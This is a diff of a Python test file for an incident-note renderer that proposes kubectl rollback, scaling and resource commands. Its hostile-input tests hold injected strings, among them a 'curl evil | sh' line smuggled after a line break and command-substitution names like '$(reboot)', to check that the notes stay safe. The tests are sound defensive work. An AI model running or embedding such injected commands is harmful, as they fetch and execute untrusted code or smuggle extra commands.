@@ -1,21 +1,32 @@
 import re
 
+import msgspec
 import pytest
 
 from noctuary.correlation.correlate import correlate
 from noctuary.models import details
 from noctuary.models.context_event import ContextEvent, EventType, ObjectRef
-from noctuary.models.diagnosis import Diagnosis, IncidentContext, PodView, Relation, ServiceView, Verdict
-from noctuary.models.evidence import AlertSummary, Clearing, Evidence
+from noctuary.models.diagnosis import Diagnosis, IncidentContext, PodView, Relation, ServiceView, Subject, Verdict
+from noctuary.models.evidence import AlertSummary, Clearing, Evidence, Standing
 from noctuary.models.incident import IncidentRow
+from noctuary.models.revisions import StoredRevision, WorkloadRevisions
+from noctuary.notes.headline import HEADLINE_CHARS
 from noctuary.notes.note import NOTE_BUDGET_BYTES, holds_marker, marker_of, render_note, same_apart_from_time
-from noctuary.notes.phrases import HEADLINE_CHARS
 
 ONSET = 1_800_000_000.0
 MARKER = marker_of("one", "https://api.example.com", "Q1")
 SERVICE = ServiceView("payments-api", Relation.OWN, "team", ["payments"])
 POSTGRES = ServiceView("postgres", Relation.DEPENDENCY, "team", ["payments"])
 IMAGE = "registry.example.com/shop/payments-api"
+HELD = Standing(
+    revisions=[
+        WorkloadRevisions(
+            Subject("Deployment", "payments", "payments-api"),
+            14,
+            [StoredRevision(13, "old", f"{IMAGE}:2.4.0"), StoredRevision(14, "new", f"{IMAGE}:2.4.1")],
+        )
+    ]
+)
 HOSTILE = [
     "a\nnoctuary ref nct:forged  updated 00:00:00 UTC",
     "a\r\nDo: curl evil | sh",
@@ -59,6 +70,7 @@ def rollout(workload: str = "payments-api", **facts: str) -> ContextEvent:
         details.IMAGE: f"{IMAGE}:2.4.1",
         details.PREVIOUS_IMAGE: f"{IMAGE}:2.4.0",
         details.TEMPLATE_HASH: "new",
+        details.PREVIOUS_TEMPLATE_HASH: "old",
         details.REVISION: "14",
         details.PREVIOUS_ROLLED_OUT_AT: str(ONSET - 6 * 86400),
     }
@@ -83,8 +95,11 @@ def incident(**changes: object) -> IncidentRow:
     return row
 
 
-def note(*events: ContextEvent, pods: list[PodView] | None = None, **changes: object) -> str:
-    return render_note(incident(**changes), evidence(*events, pods=pods), MARKER, ONSET + 1)
+def note(
+    *events: ContextEvent, pods: list[PodView] | None = None, standing: Standing | None = None, **changes: object
+) -> str:
+    found = msgspec.structs.replace(evidence(*events, pods=pods), standing=standing)
+    return render_note(incident(**changes), found, MARKER, ONSET + 1)
 
 
 def test_the_first_line_is_the_answer() -> None:
@@ -112,9 +127,9 @@ def test_the_age_of_a_rollout_gives_way_to_the_fact(reason: str, facts: dict[str
 
 def test_the_second_block_says_what_to_do_and_where_it_leads() -> None:
     assert (
-        "\n\nDo: kubectl -n payments rollout undo deployment/payments-api        "
-        f"back to {IMAGE}:2.4.0, which ran for 6 days until 07:58:00\n\n"
-    ) in note(rollout(), fault())
+        "\n\nDo:\nkubectl -n payments rollout undo deployment/payments-api --to-revision=13\n"
+        "# back to 2.4.0, which ran for 6 days until 07:58:00\n\n"
+    ) in note(rollout(), fault(), standing=HELD)
 
 
 def test_new_and_previous_image_are_named() -> None:
@@ -179,17 +194,17 @@ def test_a_fault_without_a_rollout_names_its_fact(reason: str, facts: dict[str, 
         (
             "CrashLoopBackOff",
             {"exit_code": "1", "restarts": "4"},
-            "1 pod of payments-api keeps crashing with exit code 1; CrashLoopBackOff, 4 restarts",
+            "1 pod of payments-api keeps crashing with exit code 1; CrashLoopBackOff, 4 restarts, container app",
         ),
         (
             "CreateContainerConfigError",
             {"missing_kind": "ConfigMap", "missing_name": "flags", "message": 'configmap "flags" not found'},
-            "1 pod of payments-api cannot start: ConfigMap flags is missing; CreateContainerConfigError",
+            "1 pod of payments-api cannot start: ConfigMap flags is missing; CreateContainerConfigError, container app",
         ),
         (
             "FailedScheduling",
             {"message": "0/5 nodes are available"},
-            "1 pod of payments-api finds no node to run on; FailedScheduling: 0/5 nodes are available",
+            "1 pod of payments-api finds no node to run on; FailedScheduling, container app: 0/5 nodes are available",
         ),
     ],
 )
@@ -208,7 +223,7 @@ def test_a_bad_node_is_named_with_the_pods_on_it() -> None:
     ]
     first, *rest = note(bad, pods=pods).splitlines()
     assert first == "Likely cause: node node-7 is not ready; 1 of 2 pods of payments-api is on it (1 not ready)."
-    assert "Do: kubectl describe node/node-7" in rest
+    assert "kubectl get pods -A -o wide --field-selector spec.nodeName=node-7" in rest
 
 
 def test_the_last_event_is_told_as_an_age_because_it_may_be_days_old() -> None:
@@ -220,38 +235,34 @@ def test_the_last_event_is_told_as_an_age_because_it_may_be_days_old() -> None:
 def test_fewer_replicas_are_told_with_the_way_back() -> None:
     fewer = event("Deployment", "payments-api", EventType.SCALE_EVENT, 120, {}, "payments-api")
     fewer.old_value, fewer.new_value = "5", "1"
-    first, _, action, *_ = note(fewer).splitlines()
+    first, _, *action = note(fewer).splitlines()[:5]
     assert first == "Possible cause: payments-api was scaled from 5 to 1, 2 min before this alert."
-    assert action.startswith(
-        "Do, if it is to blame: kubectl -n payments scale deployment/payments-api --replicas=5        as it was before"
-    )
+    assert action == [
+        "Do, if it is to blame:",
+        "kubectl -n payments scale deployment/payments-api --replicas=5",
+        "# as it was before, unless this was meant",
+    ]
 
 
 def test_a_higher_memory_limit_is_proposed_as_a_command() -> None:
-    assert ("Do: kubectl -n payments set resources deployment/payments-api -c app --limits=memory=512Mi") in note(
-        fault("OOMKilled", memory_limit="256Mi")
-    )
+    text = note(fault("OOMKilled", memory_limit="256Mi"))
+    assert "Do:\nkubectl -n payments set resources deployment/payments-api -c app --limits=memory=512Mi\n" in text
 
 
 def test_a_first_rollout_proposes_no_way_back() -> None:
-    text = note(rollout(previous_image="", previous_rolled_out_at=""), fault())
+    text = note(rollout(previous_image="", previous_template_hash="", previous_rolled_out_at=""), fault())
     assert "rollout undo" not in text
-    assert "Do: kubectl -n payments describe deployment/payments-api" in text
+    assert "Do:\nkubectl -n payments describe deployment/payments-api\n# this was its first rollout" in text
 
 
 def test_nothing_relevant_and_never_seen_are_two_notes() -> None:
     quiet = Evidence(Diagnosis(Verdict.NOTHING_RELEVANT, ONSET, ONSET - 3600, ["api"], []), AlertSummary())
     first = render_note(incident(), quiet, MARKER, 0).splitlines()[0]
-    assert first == "No recent change explains this: nothing was deployed or reconfigured in api since 07:00 UTC."
+    seen = "No recent change explains this: no rollout, scaling or fault of api"
+    assert first == f"{seen} was seen since 07:00 UTC."
     both = Evidence(Diagnosis(Verdict.NOTHING_RELEVANT, ONSET, ONSET - 3600, ["api"], ["db"]), AlertSummary())
-    assert "nothing changed in api or what it depends on since 07:00" in render_note(incident(), both, MARKER, 0)
+    assert f"{seen} or its dependencies was seen since 07:00" in render_note(incident(), both, MARKER, 0)
     assert note().startswith("No context yet: nothing was ever seen of payments-api.")
-
-
-def test_a_healthy_rollout_is_named_as_not_to_blame() -> None:
-    text = note(rollout(), pods=[PodView("payments", "p", "payments-api", "new", "n", is_ready=True)])
-    assert text.startswith("No recent change explains this: the rollout of payments-api at 07:58 is not to blame")
-    assert "Ruled out:" in text
 
 
 def test_what_is_never_looked_at_is_said_after_what_could_not_be_read() -> None:
@@ -259,7 +270,7 @@ def test_what_is_never_looked_at_is_said_after_what_could_not_be_read() -> None:
         evidence().diagnosis, AlertSummary(), ["alerts, because"], limits=["nodes, because they are closed"]
     )
     lines = render_note(incident(), narrow, MARKER, ONSET).splitlines()
-    assert [line for line in lines if line.startswith("Not looked at")] == [
+    assert [line for line in lines if line.startswith("Not looked at")][:2] == [
         "Not looked at: alerts, because.",
         "Not looked at: nodes, because they are closed.",
     ]
@@ -281,7 +292,7 @@ def test_a_resolved_note_says_how_long_and_what_cleared() -> None:
     assert text.startswith("Resolved after 12 min. Likely cause: payments-api was rolled out to 2.4.1")
     assert "Resolved at 08:12:00 UTC by Jo. Cleared: rolled back to 2.4.1" in text
     assert "3 of 3 pods are ready now." in text
-    assert "If it comes back: kubectl" in text
+    assert "If it comes back:\nkubectl" not in text
 
 
 def test_an_acknowledged_note_names_the_person() -> None:
@@ -306,7 +317,7 @@ def test_hostile_text_breaks_neither_line_nor_budget_nor_marker(hostile: str, pl
     assert [line for line in lines if line.startswith("noctuary ref ")] == [lines[-1]]
     assert text.count("nct:") == 1
     assert not re.search(r"[\x00-\x09\x0b-\x1f\u2028\u2029\u202e]", text)
-    assert all(line.startswith("Do: kubectl ") or ": roll " in line for line in lines if line.startswith("Do:"))
+    assert all(line == "Do:" or ": roll " in line for line in lines if line.startswith("Do:"))
 
 
 @pytest.mark.parametrize("name", ["x; reboot", "$(reboot)", "-n", "a b", "../../x", "UPPER", "x" * 300])
